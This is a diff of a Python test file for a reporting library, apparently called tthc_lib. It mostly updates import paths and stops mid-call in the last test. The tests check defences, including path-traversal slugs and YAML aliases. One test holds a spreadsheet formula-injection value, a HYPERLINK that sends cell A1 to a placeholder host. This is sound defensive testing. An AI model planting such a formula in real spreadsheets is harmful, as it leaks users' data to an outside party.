@@ -12,10 +12,10 @@ import pandas as pd
 import pytest
 from openpyxl import Workbook
 
-from tthc_lib.classify import classify
-from tthc_lib.load import InputError, load
-from tthc_lib.periods import parse_period
-from tthc_lib.schema import C
+from tthc_lib.core.periods import parse_period
+from tthc_lib.core.schema import C
+from tthc_lib.engine.frame import classify
+from tthc_lib.engine.load import InputError, load
 
 from .conftest import CANONICAL, dossier, write_csv
 
@@ -152,7 +152,7 @@ def test_compute_strict_turns_data_errors_into_exit_2(tmp_path):
 
 
 def test_report_strict_refuses_inconsistent_typed_figures(tmp_path):
-    from tthc_lib.report import build_report
+    from tthc_lib.report.build import build_report
 
     write_csv(tmp_path / "hs.csv", [dossier("A", "2023-07-01", "2023-07-05", "2023-07-04")])
     p = tmp_path / "p.yaml"
@@ -165,8 +165,8 @@ def test_report_strict_refuses_inconsistent_typed_figures(tmp_path):
 
 
 def test_messy_sample_gives_a_report_whose_quality_part_tells_the_truth(tmp_path):
-    from tthc_lib import sample
-    from tthc_lib.report import build_report
+    from tthc_lib.report.build import build_report
+    from tthc_lib.samples import generator as sample
 
     data = sample.write_messy(sample.MESSY, tmp_path / "messy.xlsx")
     p = tmp_path / "p.yaml"
@@ -187,7 +187,7 @@ def test_messy_sample_gives_a_report_whose_quality_part_tells_the_truth(tmp_path
 
 @pytest.mark.parametrize("large", [False, True])
 def test_a_ragged_csv_row_is_named_never_quoted(tmp_path, monkeypatch, large):
-    import tthc_lib.read as read
+    import tthc_lib.io.read as read
 
     if large:
         monkeypatch.setattr(read, "STREAM_BYTES", 1)
@@ -203,8 +203,8 @@ def test_a_ragged_csv_row_is_named_never_quoted(tmp_path, monkeypatch, large):
 
 
 def test_slug_that_leaves_the_outputs_folder_is_refused(tmp_path):
-    from tthc_lib.paths import report_dir
-    from tthc_lib.spec import load_spec
+    from tthc_lib.core.paths import report_dir
+    from tthc_lib.report.spec import load_spec
 
     write_csv(tmp_path / "hs.csv", [dossier("A", "2023-07-01", "2023-07-05")])
     for slug in ("../../escaped", "/tmp/abs", "Bắc Giang", "a" * 300, "x\x00y"):
@@ -218,7 +218,7 @@ def test_slug_that_leaves_the_outputs_folder_is_refused(tmp_path):
 
 
 def test_yaml_aliases_are_refused_in_params(tmp_path):
-    from tthc_lib.spec import load_spec
+    from tthc_lib.report.spec import load_spec
 
     p = tmp_path / "p.yaml"
     p.write_text("a: &x [1, 2]\nunit: {slug: d, name: *x, short_name: d}\n", encoding="utf-8")
@@ -229,7 +229,7 @@ def test_yaml_aliases_are_refused_in_params(tmp_path):
 def test_formula_like_names_are_text_in_the_forms(tmp_path):
     from openpyxl import load_workbook
 
-    from tthc_lib.report import build_report
+    from tthc_lib.report.build import build_report
 
     evil = '=HYPERLINK("http://x.test/?leak="&A1,"Bấm")'
     write_csv(tmp_path / "hs.csv", [dossier("A", "2023-07-01", "2023-07-05", "2023-07-04",
